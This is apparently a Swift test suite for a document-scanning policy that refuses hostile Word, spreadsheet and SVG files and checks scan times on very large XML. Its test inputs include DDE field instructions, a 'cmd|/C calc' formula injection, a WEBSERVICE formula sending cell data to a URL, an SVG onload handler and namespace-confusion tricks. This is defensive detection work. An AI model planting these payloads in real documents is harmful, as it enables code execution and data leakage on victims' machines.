import TestSupport
import Testing

@testable import FilePolicy

/// Documents of a million elements, which hide what is forbidden at their very end: they are
/// refused within a second by the program as it is released.
@Suite(.serialized) struct HostileXMLTests {
    #if DEBUG
        // Without optimisation a tenth of the elements takes as long as all of them do with it.
        private static let (share, limit) = (10, Duration.seconds(10))
    #else
        private static let (share, limit) = (1, Duration.seconds(1))
    #endif

    private static let space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    private static let dde = #"<w:p><w:fldSimple w:instr="DDE excel a"/></w:p>"#

    private func examine(_ name: String, _ bytes: [UInt8]) -> Examination {
        FilePolicy().examine(name: name, bytes)
    }

    /// A Word document whose members are stored, not packed.
    private func word(_ body: String) -> [UInt8] {
        var zip = ZipBuilder()
        let office = OfficeBuilder.word(body)
        let types = office.contentTypes
        zip.add("[Content_Types].xml", Array(types.utf8), deflated: false)
        for part in office.parts { zip.add(part.name, Array(part.text.utf8), deflated: false) }
        return zip.bytes
    }

    @Test(arguments: [
        (#"<w:p w:a="1" w:b="2"/>"#, 900_000, "office-dde"),
        ("<w:p/>", 950_000, "office-dde"),
        ("<w:instrText>DDX </w:instrText>", 600_000, "office-dde"),
        (#"<w:fldSimple w:instr="HYPERLINK a:b"/>"#, 450_000, "office-link"),
        (#"<w:fldChar w:fldCharType="begin"/>"#, 500_000, "office-dde"),
        (#"<w:p xmlns:w="urn:a"/>"#, 800_000, "office-dde"),
        (#"<w:ins w:author="山田"/>"#, 800_000, "office-dde"),
    ])
    func findsWhatStandsBehindAMillionElements(item: String, count: Int, rule: String) {
        let bytes = word(String(repeating: item, count: count / Self.share) + Self.dde)
        var found = Examination()
        let time = ContinuousClock().measure { found = examine("a.docx", bytes) }
        #expect(found.refusals.map(\.id).contains(rule))
        #expect(found.unscannable == nil)
        #expect(time < Self.limit)
    }

    @Test func manyLongPartsTakeNoLongerThanOne() {
        var zip = ZipBuilder()
        let office = OfficeBuilder.word("<w:p/>")
        zip.add("[Content_Types].xml", Array(office.contentTypes.utf8), deflated: false)
        for part in office.parts { zip.add(part.name, Array(part.text.utf8), deflated: false) }
        let body = String(repeating: #"<w:p w:a="1" w:b="2"/>"#, count: 900_000 / Self.share)
        for number in 1...4 {
            let text = "<w:hdr xmlns:w=\"\(Self.space)\">\(body)</w:hdr>"
            zip.add("word/header\(number).xml", Array(text.utf8), deflated: false)
        }
        var limits = FilePolicy.Limits()
        limits.archiveElements /= Self.share
        var found = Examination()
        let time = ContinuousClock().measure {
            found = FilePolicy(limits: limits).examine(name: "a.docx", zip.bytes)
        }
        #expect(found.refusals == [])
        #expect(found.unscannable != nil)
        #expect(time < Self.limit)
    }

    @Test(arguments: [
        #"<use href="b#c"/>"#, #"<g fill="url(b)"/>"#, "<path/>", "<script/>", "<RECT/>",
    ])
    func looksThroughTwoHundredThousandShapes(item: String) {
        let text =
            #"<svg xmlns="http://www.w3.org/2000/svg">"#
            + String(repeating: item, count: 199_990 / Self.share)
            + #"<g onload="a()"/></svg>"#
        var found = Examination()
        let time = ContinuousClock().measure { found = examine("a.svg", Array(text.utf8)) }
        #expect(found.refusals.map(\.id).contains("svg-event-handler"))
        #expect(time < Self.limit)
    }

    @Test(arguments: [
        "<x:p/>", #"<w:p x:a=""/>"#, "<w:a:b/>", "<:a/>", #"<w:p xmlns:x=""/>"#,
        #"<w:p xmlns:xml="urn:a"/>"#, "<xmlns:a/>",
    ])
    func callsBrokenNamespacesDamaged(body: String) {
        #expect(examine("a.docx", word(body)).refusals.map(\.id) == ["office-malformed"])
    }

    /// What one reader takes for a script and another does not.
    @Test(arguments: [
        #"<g xmlns:="urn:x"><script/></g>"#,
        #"<g xmlns="http://www.w3.org/XML/1998/namespace"><script/></g>"#,
        #"<g xmlns="http://www.w3.org/2000/xmlns/"><script/></g>"#,
        #"<x:g xmlns:x="http://www.w3.org/XML/1998/namespace"><x:script/></x:g>"#,
        #"<g xmlns:a:b="urn:x"><script/></g>"#,
    ])
    func callsImagesWithForbiddenNamespacesDamaged(body: String) {
        let text = #"<svg xmlns="http://www.w3.org/2000/svg">"# + body + "</svg>"
        #expect(examine("a.svg", Array(text.utf8)).refusals.map(\.id) == ["svg-malformed"])
    }

    /// An attribute that programs read, beside one that only a careless check would.
    @Test(arguments: [
        #"<w:fldSimple instr="PAGE" w:instr="DDEAUTO excel a"/>"#,
        #"<w:fldSimple w:instr="PAGE" instr="DDEAUTO excel a"/>"#,
        #"<w:p xmlns:a="urn:a" xmlns:b="urn:a" a:x="1" b:x="2"/>"#,
    ])
    func callsAmbiguousAttributesDamaged(body: String) {
        #expect(examine("a.docx", word(body)).refusals.map(\.id) == ["office-malformed"])
    }

    @Test func readsTheSameAttributeOfTwoVocabularies() {
        let body = #"<w:p xmlns:a="urn:a" w:x="1" a:x="2"/>"#
        #expect(examine("a.docx", word(body)).refusals.isEmpty)
    }

    @Test func thousandsOfDifferentAuthorsCostLittle() {
        let blank = String(repeating: " ", count: 60_000)
        let authors = (0..<600).map { "<w:ins w:author=\"\(blank)\($0)\"/>" }
        let again = String(repeating: "<w:ins w:author=\"\(blank)\"/>", count: 400)
        let bytes = word(authors.joined() + again)
        let time = ContinuousClock().measure { _ = examine("a.docx", bytes) }
        #expect(time < Self.limit)
    }

    @Test func imagesInAnArchiveShareItsBudget() {
        var zip = ZipBuilder()
        let drawing =
            #"<svg xmlns="http://www.w3.org/2000/svg">"#
            + String(repeating: "<g/>", count: 150_000 / Self.share) + "</svg>"
        for number in 1...12 { zip.add("\(number).svg", Array(drawing.utf8), deflated: false) }
        var limits = FilePolicy.Limits()
        limits.archiveElements /= Self.share
        let found = FilePolicy(limits: limits).examine(name: "a.zip", zip.bytes)
        #expect(found.refusals.isEmpty)
        #expect(found.unscannable != nil)
    }

    @Test func forgetsANamespaceWhereItsElementEnds() {
        let inside = #"<w:p xmlns:x="urn:x"><x:a/></w:p>"#
        #expect(examine("a.docx", word(inside)).refusals.isEmpty)
        let outside = #"<w:p xmlns:x="urn:x"/><x:a/>"#
        #expect(examine("a.docx", word(outside)).refusals.map(\.id) == ["office-malformed"])
        let shadowed = #"<w:p xmlns:w="urn:x"><w:fldSimple xmlns:w="\#(Self.space)"/></w:p>"#
        #expect(examine("a.docx", word(shadowed)).refusals.isEmpty)
    }

    @Test func givesUpOnThousandsOfNamespacesAndAttributes() {
        let spaces = (0..<600).map { " xmlns:n\($0)='urn:\($0)'" }.joined()
        #expect(examine("a.docx", word("<w:p\(spaces)/>")).unscannable != nil)
        var policy = FilePolicy()
        policy.limits.xmlAttributes = 50
        let few = String(repeating: "<w:p w:a='' w:b=''/>", count: 40)
        #expect(policy.examine(name: "a.docx", word(few)).unscannable != nil)
    }

    @Test(arguments: [
        ("_xlfn.WEBSERVICE(&quot;https://e.jp/&quot;&amp;A1)", "office-formula"),
        ("1+_xlfn.IMAGE (A1)", "office-formula"), ("_XLFN.image(A1)", "office-formula"),
        ("WEBSERVICE(A1)", "office-formula"), ("'a''b'!A1+WEBSERVICE(A1)", "office-formula"),
        ("T['#a]&amp;WEBSERVICE(A1)", "office-formula"), ("RTD(&quot;a&quot;,,1)", "office-dde"),
        ("cmd|'/C calc'!A0", "office-dde"),
        ("SUM(A1:A2)&amp;&quot;IMAGE (x)&quot;", nil), ("Table1[Image(kB)]", nil),
        ("MYWEBSERVICE(A1)", nil), ("&quot;a|b&quot;", nil), ("WEBSERVICE", nil),
    ])
    func refusesFormulasThatFetch(formula: String, rule: String?) {
        let sheet = OfficeBuilder.excel("<row><c><f>\(formula)</f></c></row>")
        #expect(examine("a.xlsx", sheet.bytes).refusals.map(\.id) == (rule.map { [$0] } ?? []))
        guard rule != nil || !formula.contains("xlfn") else { return }
        let cell =
            "<table:table-cell table:formula='of:=\(formula.replacing("'", with: "&apos;"))'/>"
        let calc = OfficeBuilder.openDocument("spreadsheet", cell)
        let found = examine("a.ods", calc.bytes).refusals.map(\.id)
        #expect(found == (rule.map { [$0] } ?? []))
    }

    @Test(arguments: [
        "openpyxl", "python-docx", "Microsoft Office User", "LibreOffice/7.4", "Adobe InDesign",
    ])
    func programsAreNoPeople(name: String) {
        var office = OfficeBuilder.word()
        let space = "http://purl.org/dc/elements/1.1/"
        office.add(
            "docProps/core.xml", "<a xmlns:dc='\(space)'><dc:creator>\(name)</dc:creator></a>")
        #expect(examine("a.docx", office.bytes).disclosures.isEmpty)
        var found = Examination()
        found.disclose(.author, "Adobe 花子", isRemovable: false)
        found.disclose(.author, "Openpyxl Yamada", isRemovable: false)
        #expect(found.disclosures.map(\.value) == ["Openpyxl Yamada"])
    }

    @Test func readsTheAttributesOfTheElementsOwnVocabulary() {
        var office = OfficeBuilder.word()
        office.add(
            "word/_rels/document.xml.rels",
            #"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships" "#
                + #"xmlns:x="urn:x"><Relationship x:Target="a" x:TargetMode="Internal" Id="r" "#
                + #"Type="a/image" TargetMode="External" Target="http://example.jp/a.png"/>"#
                + "</Relationships>")
        #expect(examine("a.docx", office.bytes).refusals.map(\.id) == ["office-external"])
    }
}
